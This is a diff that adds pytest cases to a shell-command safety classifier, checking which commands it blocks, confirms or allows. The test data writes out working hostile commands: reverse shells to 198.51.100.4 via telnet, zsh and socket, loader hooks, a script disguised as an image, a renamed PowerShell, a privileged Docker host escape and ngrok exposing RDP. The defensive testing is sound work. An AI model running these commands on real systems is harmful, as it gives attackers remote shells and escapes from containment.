@@ -201,3 +201,44 @@ def test_account_backdoors_block(command: str, rule: str) -> None:
 ])
 def test_ordinary_account_work_does_not_block(command: str) -> None:
     assert assess(command).decision is not Decision.BLOCK, assess(command).rules
+
+
+@pytest.mark.parametrize(("command", "rule"), [
+    ("rm -f /tmp/p; mkfifo /tmp/p; telnet 198.51.100.4 8080 < /tmp/p | /bin/bash > /tmp/p 2>&1",
+     "block.shell.reverse-shell"),
+    ("zsh -c 'zmodload zsh/net/tcp; ztcp 198.51.100.4 9001; bash <&$REPLY >&$REPLY'", "block.shell.reverse-shell"),
+    ("socket -qvp '/bin/bash -i' 198.51.100.4 9001", "block.shell.reverse-shell"),
+    ("python3 -c 'import ctypes; ctypes.CDLL(\"/dev/shm/x.so\")'", "block.shell.loader-hook"),
+    ("openssl speed -engine ./eng.so", "block.shell.loader-hook"),
+    ("ssh-keygen -D /tmp/pk.dylib", "block.shell.loader-hook"),
+    ("printf '#!/bin/sh\\nid\\n' > /tmp/cat.jpg; sh /tmp/cat.jpg", "block.shell.defense-evasion"),
+    (r"copy C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe C:\ProgramData\svc.exe & "
+     r"C:\ProgramData\svc.exe -c whoami", "block.shell.defense-evasion"),
+    ("docker run --rm --privileged -v /:/mnt -it debian chroot /mnt bash", "block.shell.suid-shell"),
+    ("ngrok tcp 3389", "block.shell.remote-access"),
+])
+def test_shells_on_sockets_loads_masquerades_escapes_and_exposed_logins_block(command: str, rule: str) -> None:
+    got = assess(command)
+    assert got.decision is Decision.BLOCK and rule in got.rules, got.rules
+
+
+@pytest.mark.parametrize("command", [
+    "ssh-keygen -D /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so", "openssl req -engine pkcs11 -new -key id",
+    "python3 -c 'import ctypes; ctypes.CDLL(\"./build/libfast.so\")'", "sh scripts/build.sh",
+    "cp /bin/bash ./bash-copy && ls -l ./bash-copy", "ngrok http 3000", "echo hi | nc -q1 localhost 9000",
+    "docker run --rm -v $PWD:/src -w /src python:3.12 python -m pytest",
+])
+def test_their_ordinary_uses_do_not_block(command: str) -> None:
+    assert assess(command).decision is not Decision.BLOCK, assess(command).rules
+
+
+@pytest.mark.parametrize("command", [
+    'dscl "/Active Directory/CORP/All Domains" -list /Computers', "tcpdump -i any -c 100 port 53",
+])
+def test_directory_mapping_and_packet_capture_ask(command: str) -> None:
+    assert assess(command).decision is Decision.CONFIRM, assess(command).rules
+
+
+@pytest.mark.parametrize("command", ["dscl . -read /Users/alice RealName", "tcpdump -r capture.pcap -n"])
+def test_local_directory_reads_and_capture_files_pass(command: str) -> None:
+    assert assess(command).decision is Decision.ALLOW, assess(command).rules
